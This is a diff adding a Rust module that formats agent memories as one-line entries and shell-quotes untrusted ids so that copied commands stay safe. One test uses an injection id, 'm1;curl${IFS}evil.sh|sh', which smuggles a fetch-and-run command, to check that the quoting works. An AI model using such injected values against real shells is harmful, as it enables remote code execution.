@@ -1,0 +1,206 @@
+//! One memory in one line: its day, what happened and what to do, and where it is from.
+//! Not here: how many lines a reply has (`hits`, `briefing`, `item`).
+
+use std::borrow::Cow;
+use std::fmt::Write;
+
+use super::excerpt::{Excerpt, Interest, LOOK_BYTES_MAX};
+use event::{EventId, RepoKey};
+use guard::text::{Layout, neutralise};
+use memory::Memory;
+use search::staleness::Changed;
+
+/// The word for what a hook saw once and nothing has proven yet.
+pub(super) const CANDIDATE: &str = "candidate";
+
+/// Returns the day of a memory, as the founding form shows it.
+pub(super) fn date(memory: &Memory) -> String {
+    memory
+        .timestamp
+        .map_or_else(|| "no date".to_owned(), |time| time.strftime("%Y-%m-%d").to_string())
+}
+
+/// Longest name shown of an agent, a repository or a field: more is somebody trying to fill the reply.
+const NAME_CHARS_MAX: usize = 40;
+
+/// Returns a name that somebody else chose, as it may stand within a line.
+pub(super) fn name(text: &str) -> String {
+    neutralise(text, Layout::Line).chars().take(NAME_CHARS_MAX).collect()
+}
+
+/// Returns ids as they may stand among the words of a command that a reader may copy into a shell, after its options.
+/// Anybody may choose an id, but none holds a quote (S-LINE-4).
+#[must_use]
+pub fn operands(ids: &[&EventId]) -> String {
+    let words: Vec<Cow<'_, str>> = ids.iter().map(|id| word(id)).collect();
+    let is_option = ids.iter().any(|id| id.short().starts_with('-'));
+    format!("{}{}", if is_option { "-- " } else { "" }, words.join(" "))
+}
+
+/// Returns an id as one word of a shell.
+pub(super) fn word(id: &EventId) -> Cow<'_, str> {
+    let id = id.short();
+    let is_plain = id.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && id.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._:-".contains(&byte));
+    if is_plain { id.into() } else { format!("'{id}'").into() }
+}
+
+/// So many files are named: one is enough to know what to look at.
+const FILES_SHOWN_MAX: usize = 2;
+/// The longest name of a file shown, in bytes: its end tells it from others.
+const FILE_BYTES_MAX: usize = 60;
+
+/// Names files, the first of them; empty for none.
+pub(super) fn files(files: &[String]) -> String {
+    let shown: Vec<String> =
+        files.iter().take(FILES_SHOWN_MAX).map(|file| shortened(file)).collect();
+    match files.len().saturating_sub(shown.len()) {
+        0 => shown.join(", "),
+        more => format!("{} and {more} more", shown.join(", ")),
+    }
+}
+
+fn shortened(file: &str) -> String {
+    let file = neutralise(file, Layout::Line);
+    let cut = file.len().saturating_sub(FILE_BYTES_MAX);
+    let end = file.get(file.ceil_char_boundary(cut)..).unwrap_or_default().to_owned();
+    if cut > 0 { format!("…{end}") } else { end }
+}
+
+/// Says which files of a memory were written since it last held.
+pub(super) fn changed(memory: &Memory, changed: &Changed) -> String {
+    let files = changed.get(&memory.id).map_or_else(String::new, |list| files(list));
+    if files.is_empty() { files } else { format!(" ({files} changed since)") }
+}
+
+/// Says in front of a memory that it reads like an instruction, and why.
+pub(super) fn mark(memory: &Memory) -> String {
+    memory.flagged().map_or_else(String::new, |why| format!("⚠ flagged ({why}): "))
+}
+
+/// Says what a memory's success was, where it is from, who learned it, and how to cite it.
+pub(super) fn after(memory: &Memory, here: Option<&RepoKey>) -> String {
+    let event = &memory.event();
+    let mut after = String::new();
+    if let Some(rate) = memory.evidence() {
+        let _ = write!(after, " ({rate} success)");
+    }
+    if memory.standing().is_stale {
+        after.push_str(" (said to be stale)");
+    }
+    let kind = event.event_type.as_str();
+    let mut source: Vec<String> = Vec::new();
+    if here != Some(&memory.repo) {
+        source.push(name(memory.repo.short_name()));
+    }
+    // The founding kinds show in what is said; any other is worth a word.
+    if !matches!(kind, "error" | "success" | "pattern" | "") {
+        source.push(name(kind));
+    }
+    source.push(name(&event.agent_id));
+    // Who learned it first-hand is named; any other source is worth a word.
+    let vouches = event.source.as_deref().unwrap_or_default();
+    if memory.is_candidate() {
+        source.push(CANDIDATE.to_owned());
+    } else if !matches!(vouches, "human" | "agent") {
+        source.push(name(vouches));
+    }
+    source.retain(|part| !part.is_empty());
+    if !source.is_empty() {
+        let _ = write!(after, " · {}", source.join(", "));
+    }
+    let _ = write!(after, " · {}", event.id.short());
+    after
+}
+
+/// What happened and what to do, made ready to be shown in any room.
+pub(super) struct Body<'a> {
+    context: Excerpt<'a>,
+    lesson: Excerpt<'a>,
+    /// Empty where the lesson says it.
+    command: String,
+}
+
+impl<'a> Body<'a> {
+    pub(super) fn of(memory: &Memory, interest: &'a Interest<'a>) -> Self {
+        let event = &memory.event();
+        // A command is shown whole or not at all.
+        let is_short = event.command.len() <= LOOK_BYTES_MAX;
+        let is_shown = is_short && !event.lesson.contains(event.command.trim());
+        let command =
+            if is_shown { neutralise(&event.command, Layout::Line) } else { String::new() };
+        Self {
+            context: Excerpt::of(&event.context, interest),
+            lesson: Excerpt::of(&event.lesson, interest),
+            command: if command.is_empty() { command } else { format!(" `{command}`") },
+        }
+    }
+
+    /// Returns how many bytes it takes to say everything.
+    pub(super) fn bytes(&self) -> usize {
+        self.context.bytes() + self.joint().len() + self.lesson.bytes() + self.command.len()
+    }
+
+    /// Says what happened and what to do, in at most `bytes_max` bytes.
+    pub(super) fn shown(&self, bytes_max: usize) -> String {
+        let (lesson_bytes, joint) = (self.lesson.bytes(), self.joint());
+        // Of what happened only a third where both are long: what to do is what the reader came for.
+        let room = if lesson_bytes == 0 {
+            bytes_max
+        } else {
+            bytes_max.saturating_sub(lesson_bytes + joint.len()).max(bytes_max / 3)
+        };
+        let context = self.context.shown(room);
+        let joint = if context.is_empty() { "" } else { joint };
+        let room = bytes_max.saturating_sub(context.len() + joint.len());
+        let mut body = format!("{context}{joint}{}", self.lesson.shown(room));
+        if body.len() + self.command.len() <= bytes_max {
+            body.push_str(&self.command);
+        }
+        body.truncate(body.floor_char_boundary(bytes_max));
+        body
+    }
+
+    fn joint(&self) -> &'static str {
+        if self.context.bytes() == 0 || self.lesson.bytes() == 0 { "" } else { ": " }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::cell::Cell;
+
+    use super::super::sample;
+    use super::*;
+    use serde_json::json;
+
+    // S-REPLY-3
+    #[test]
+    fn an_id_in_a_command_is_one_word_whatever_it_holds() {
+        let id = |text: &str| EventId::foreign(text).unwrap();
+        let (plain, odd, option) = (id("fix-1.a:b_c"), id("m1;curl${IFS}evil.sh|sh"), id("--undo"));
+        assert_eq!(operands(&[&plain]), "fix-1.a:b_c");
+        assert_eq!(operands(&[&plain, &odd]), "fix-1.a:b_c 'm1;curl${IFS}evil.sh|sh'");
+        assert_eq!(operands(&[&option, &odd]), "-- '--undo' 'm1;curl${IFS}evil.sh|sh'");
+        assert_eq!(word(&id("~root")), "'~root'");
+        let own = EventId::mint("2026-01-02T03:04:05Z".parse().unwrap(), 7);
+        assert_eq!(operands(&[&own]), own.short());
+    }
+
+    #[test]
+    fn a_body_weighs_each_piece_once_and_keeps_to_every_room() {
+        let weighed = Cell::new(0);
+        let count = |_: &str| {
+            weighed.set(weighed.get() + 1);
+            0.0
+        };
+        let (context, lesson) = ("b! ".repeat(5_000), format!("zebra {}", "a. ".repeat(10_000)));
+        let memory = sample::memory(&json!({ "context": context, "lesson": lesson }));
+        let body = Body::of(&memory, &count);
+        for bytes_max in [0, 1, 5, 100, 640, 8_000] {
+            assert!(body.shown(bytes_max).len() <= bytes_max);
+        }
+        assert_eq!(weighed.get(), 15_000);
+        assert_eq!(body.shown(usize::MAX).len(), body.bytes());
+    }
+}
